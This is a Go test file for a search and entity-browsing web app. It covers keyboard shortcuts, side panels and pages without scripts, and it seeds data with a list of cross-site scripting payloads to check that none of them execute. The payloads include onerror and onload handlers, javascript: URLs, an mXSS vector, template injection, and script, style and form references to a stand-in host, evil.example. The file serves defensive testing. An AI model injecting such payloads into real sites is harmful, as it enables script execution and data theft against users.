package web_test

import (
	"fmt"
	"html"
	"net/url"
	"strings"
	"testing"

	"overt/web/webtest"
)

// From a value to the passage it stands in: one press, beside the page, and closed by
// one key; and each is a page by itself.
func TestPassageBeside(t *testing.T) {
	s := webtest.Serve(t, webtest.Filled(t))
	s.Enter(t)
	b := s.Browse(t)
	b.Open("/e/" + s.Entity(t, "Four Points Technology") + "/facts")
	before := b.Presses()
	b.Click(".facts a.chip")
	b.Wait("#aside mark, #aside q")
	if n := b.Presses() - before; n != 1 {
		t.Errorf("%d presses from a value to its source, want 1", n)
	}
	if b.Path() != "/e/"+s.Entity(t, "Four Points Technology")+"/facts" {
		t.Errorf("the page went to %s", b.Path())
	}
	if at := webtest.Eval[string](b, "document.activeElement.tagName"); at != "H2" {
		t.Errorf("the focus is at %s, not at what was opened", at)
	}
	for _, line := range b.Axe() {
		t.Errorf("with a passage beside: %s", line)
	}
	b.Screenshot("beside")
	b.Key("Escape")
	b.Until(`!document.querySelector("#aside").firstElementChild`)
	if chip := webtest.Eval[bool](b, `document.activeElement.classList.contains("chip")`); !chip {
		t.Error("the focus does not go back to the chip")
	}
	// From a hit to its passage: one press.
	b.Open("/search?q=capacity")
	before = b.Presses()
	b.Click(".hit h2 a")
	b.Wait("mark#quote-here")
	if n := b.Presses() - before; n != 1 {
		t.Errorf("%d presses from a hit to its passage, want 1", n)
	}
	if text := webtest.Eval[string](b, `document.querySelector("mark#quote-here").textContent`); text != "capacity" {
		t.Errorf("%q is marked", text)
	}
	for _, line := range b.Wrong() {
		t.Error(line)
	}
}

// All of it goes by keyboard alone, and single keys can be switched off.
func TestKeys(t *testing.T) {
	s := webtest.Serve(t, webtest.Filled(t))
	s.Enter(t)
	b := s.Browse(t)
	b.Key("/")
	b.Type("hosting")
	b.Key("Enter")
	b.Wait("html[data-ready] .hit")
	b.Key("j")
	b.Until(`document.querySelectorAll(".hit.at").length == 1 && document.querySelector("#aside mark")`)
	b.Key("j")
	b.Until(`document.querySelectorAll(".hit")[1].classList.contains("at")`)
	b.Key("?")
	b.Wait("dialog#keys[open]")
	b.Key("Escape")
	b.Until(`!document.querySelector("dialog[open]")`)
	b.Key("g")
	b.Key("d")
	b.At("/")
	b.Key("g")
	b.Key("s")
	b.At("/search")
	b.Key("u")
	b.At("/")

	b.Ctrl("k")
	b.Wait("overt-palette dialog[open]")
	b.Type("sea")
	b.Until(`document.querySelectorAll("overt-palette [role=option]").length > 0`)
	for _, line := range b.Axe() {
		t.Errorf("with the palette open: %s", line)
	}
	b.Screenshot("palette")
	b.Key("Enter")
	b.At("/search")

	b.Open("/session")
	b.Click(`input[name="keys"][value="off"]`)
	b.Click(`form[action="/session"] button`)
	b.Wait(`html[data-keys="off"]`)
	b.Open("/")
	b.Key("g")
	b.Key("s")
	b.Key("?")
	if at := b.Path(); at != "/" {
		t.Errorf("keys are off and led to %s", at)
	}
	for _, line := range b.Wrong() {
		t.Error(line)
	}
}

// planted are what hostile sources hold.
var planted = []string{
	`<img src=x onerror="planted.push('img')">`, `"><script>planted.push('script')</script>`, `<svg/onload=planted.push('svg')>`, `' onmouseover='planted.push(1)' x='`,
	`javascript:planted.push('url')`, `</title><script src=//evil.example/x.js></script>`, `<div hx-get="//evil.example/" hx-trigger="load">`, `<iframe srcdoc="<script>parent.planted.push(1)</script>">`,
	`<a href="javascript:planted.push('a')">press</a>`, `<style>@import url(//evil.example/x.css)</style>`, `<form action=//evil.example><button>x</button></form>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=planted.push('mxss')>`, `{{constructor.constructor('planted.push(1)')()}}`, "\u202e<script>planted.push('bidi')</script>", `<template><script>planted.push('t')</script></template>`,
}

// plant gives, for a place that people and sources write in, words that tell if they run.
func plant(place string) string {
	return fmt.Sprintf(`"'><img src=x onerror=planted.push('%s')>`, place)
}

// grown are elements that only planted words can have become.
const grown = `document.querySelectorAll("main script, main iframe, main style, img[src='x'], [onload], [onerror], [onmouseover], a[href^='javascript'], form[action*='evil']").length`

// Nothing that a source, a mapping or a person writes runs on any page, and nothing
// leaves the machine; neither in what is opened beside a page, nor where a form is
// refused and shown again.
func TestPlanted(t *testing.T) {
	places := map[string]bool{}
	s, beginnings := work(t, func(place string) string {
		places[place] = true
		return plant(place)
	})
	stops := tour(t, s, append(sown(t, s), beginnings...)...)
	told := ""
	for _, p := range stops {
		if told += html.UnescapeString(p.Body); strings.Contains(p.Header.Get("Content-Type"), "html") || strings.Contains(p.Header.Get("Content-Type"), "svg") {
			harmless(t, p.asked, p.Reply)
			harmless(t, p.asked+" beside", s.Get(t, p.asked, "HX-Request", "true"))
		}
	}
	for place := range places {
		if !strings.Contains(told, fmt.Sprintf("planted.push('%s')", place)) {
			t.Errorf("no page tells the %s", place)
		}
	}
	b := s.Browse(t)
	for _, p := range few(stops) {
		if p.page() {
			used(t, b, p)
		}
	}
	for _, line := range b.Wrong() {
		t.Error(line)
	}
}

// harmless finds planted words that stand in a page as they were written.
func harmless(t *testing.T, at string, r *webtest.Reply) {
	t.Helper()
	if i := strings.Index(r.Body, "<img src=x"); i >= 0 {
		t.Errorf("%s has planted words as they are: …%s…", at, r.Body[max(0, i-200):min(len(r.Body), i+80)])
	}
}

// used opens a page, what can be opened beside it, its palette, and sends the first form
// of it that takes words.
func used(t *testing.T, b *webtest.Browser, p *stop) {
	t.Helper()
	b.Open(p.asked)
	if webtest.Eval[bool](b, `(e => !!e && (e.click(), true))(document.querySelector("main a.chip[hx-get], main [data-preview]"))`) {
		b.Until(`document.querySelector("#aside")?.firstElementChild`)
	}
	if webtest.Eval[bool](b, `!!document.querySelector("overt-palette")`) {
		b.Ctrl("k")
		b.Until(`document.querySelector("overt-palette [role=option]")`)
		b.Key("Escape")
	}
	if p.route == "GET /review/{queue}/{left}/{right}" {
		b.Key("n")
		b.Until(`document.querySelector("#last form")`)
	}
	if n := webtest.Eval[int](b, grown); n > 0 {
		t.Errorf("%s: %d planted elements became elements", p.asked, n)
	}
	if webtest.Eval[bool](b, fmt.Sprintf(`(() => {
		const takes = "textarea, input[type=text], input:not([type])", f = [...document.querySelectorAll("main form[method=post]:not([data-passkey], .verdicts)")].find(f => f.querySelector(takes));
		if (!f) return false;
		for (const e of f.querySelectorAll(takes)) e.value = %q;
		f.noValidate = true;
		delete document.documentElement.dataset.ready;
		f.requestSubmit();
		return true;
	})()`, plant("form of "+p.route))) {
		b.Wait("html[data-ready] main")
		if n := webtest.Eval[int](b, grown); n > 0 {
			t.Errorf("%s, after its form: %d planted elements became elements", p.asked, n)
		}
	}
}

// sown are the addresses of entities and documents that hold each of planted, and of
// questions that have them.
func sown(t *testing.T, s *webtest.Site) (out []string) {
	t.Helper()
	var lines []string
	texts := map[string]string{}
	for i, p := range planted {
		id := fmt.Sprintf("p%d %s", i, p)
		line := fmt.Sprintf(`{"id":%q,"schema":"Company","properties":{"name":[%q],"alias":["harbour %d"],"website":[%q],"registrationNumber":[%q],"summary":[%q],"parent":[%q]}}`, id, p, i, "http://evil.example/"+p, p, p, "p0 "+planted[0])
		lines = append(lines, strings.NewReplacer(`\x`, `\u00`, `\u202e`, "\u202e").Replace(line))
		texts[fmt.Sprintf("%d %s.txt", i, strings.ReplaceAll(p, "/", "_"))] = "title " + p + "\nharbour " + p + " harbour"
		out = append(out, "/e/"+url.PathEscape(id)+"/facts", "/e/"+url.PathEscape(id)+"/value?prop=name&is="+url.QueryEscape(p))
	}
	webtest.Entities(t, s.Home, "hostile", lines...)
	webtest.Documents(t, s.Home, "hostile-papers", texts)
	return append(out, "/trace?view=net&from="+url.QueryEscape("p1 "+planted[1]), "/trace?view=reach&from="+url.QueryEscape("p2 "+planted[2]), "/trace?view=flow&from="+url.QueryEscape(planted[1]),
		"/search?q="+url.QueryEscape(planted[1]), "/search?q=harbour&dataset="+url.QueryEscape(planted[1]), "/find?name="+url.QueryEscape(planted[0]), "/nowhere/"+url.PathEscape(planted[1]))
}

// Without a script every link leads to a page that is whole.
func TestWithoutScript(t *testing.T) {
	s := webtest.Serve(t, webtest.Filled(t))
	s.Enter(t)
	row := s.Row(t, s.Entity(t, "ICE"))
	whole, part := s.Get(t, row), s.Get(t, row, "HX-Request", "true")
	if !strings.Contains(whole.Body, "<html") || !strings.Contains(whole.Body, "<h1>") || !strings.Contains(whole.Body, `<mark id="quote">`) {
		t.Error("a place is no page by itself")
	}
	if strings.Contains(part.Body, "<html") || !strings.Contains(part.Body, "<h2 tabindex") || !strings.Contains(part.Body, `<mark id="quote">`) {
		t.Errorf("a place beside a page is %s", part.Body)
	}
}
